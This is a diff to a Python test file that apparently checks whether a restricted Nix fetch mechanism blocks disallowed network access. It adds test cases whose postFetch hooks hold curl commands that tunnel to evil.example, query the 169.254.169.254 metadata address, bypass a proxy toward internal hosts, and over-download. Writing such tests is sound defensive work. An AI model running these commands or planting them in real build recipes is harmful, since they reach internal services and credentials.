@@ -42,7 +42,7 @@ pytestmark = [
 ]
 
 MAKE = REPOSITORY / "contrib/nixpkgs-debian/make"
-PATIENT = BuildLimits(evaluation_time=1200, time=3000, silence=3000, fetch_time=600)
+PATIENT = BuildLimits(evaluation_time=1200, time=3000, silence=3000, fetch_time=600, fetch_bytes=300_000)
 NOW = str(time.time_ns()).encode()  # stores that are kept have nothing of it yet
 FILES = {"README": NOW, "src/main.c": b"int main(void) { return 42; }\n"}
 SCRIPT = b"#!/bin/sh\necho " + NOW + b"\n"
@@ -101,6 +101,7 @@ URL = 'fetchurl { url = "%s"; hash = "%s"; }'
 GITHUB = 'fetchFromGitHub { owner = "o"; repo = "r"; rev = "v1"; %s sha256 = "%s"; }'
 GIT = 'fetchgit { url = "https://git.example/o/%s.git"; rev = "@rev@"; sha256 = "%s"; }'
 PYPI = 'fetchPypi { pname = "six"; version = "%s"; hash = "%s"; }'
+HOOK = 'fetchurl { url = "https://a.example/a"; name = "%s"; hash = "@gone@"; postFetch = "%s"; }'
 UNLISTED = "would be downloaded from %s, which `[nix] fetch` does not allow"
 ELSEWHERE = "would be downloaded from %s, by a redirect or of its own accord, which `[nix] fetch` does not allow"
 CASES = {
@@ -166,6 +167,33 @@ CASES = {
         GIT % ("none", "@gone@"), "git.example", says="repository 'https://git.example/o/none.git/' not found"
     ),
     "a lying hash": Case(URL % ("https://a.example/a", "@lie@"), "a.example", says="hash mismatch in fixed-output"),
+    # -- attacks by what a fetcher lets people add
+    "another host by TLS": Case(
+        HOOK
+        % ("attack-1", "curl -sSk --connect-to evil.example:443:a.example:443 https://evil.example/x -o $out; exit 1"),
+        "a.example",
+        "a.example/a",
+        "TLS asks for 'evil.example' in a tunnel to a.example",
+    ),
+    "another host": Case(
+        HOOK % ("attack-2", "curl -sS http://169.254.169.254/latest -o $out; exit 1"),
+        "a.example",
+        says=ELSEWHERE % "169.254.169.254",
+    ),
+    "past the proxy": Case(
+        HOOK
+        % (
+            "attack-3",
+            "curl -sS --noproxy '*' http://secret.evil.example/ -o $out || curl -sS --noproxy '*' http://10.0.0.1/",
+        ),
+        "a.example",
+        says="Couldn't connect to server",
+    ),
+    "too much": Case(
+        HOOK % ("attack-4", "curl -sSk https://a.example/large >/dev/null"),
+        "a.example",
+        says="took more than 300000 bytes",
+    ),
     "git over ssh": Case(
         'fetchgit { url = "git@github.com:o/r.git"; rev = "@rev@"; sha256 = "@gone@"; name = "ssh"; }',
         "github.com",
@@ -182,6 +210,7 @@ def put(net: Internet, directory: Path) -> dict[str, str]:
         hashes[name] = flat(NOW + name.encode())
     net.files["a.example/a"] = net.files["ftp.nluug.nl/pub/gnu/hello/c"] = net.files["a.example/rec"] = NOW
     net.files["a.example/post"] = NOW
+    net.files["a.example/large"] = bytes(1_000_000)
     hashes |= {"text": flat(NOW), "c": flat(NOW), "post": flat(NOW + b"more\n")}
     net.files["a.example/script"] = SCRIPT
     hashes["script"] = tree(directory, {"script": SCRIPT}, 0o755)
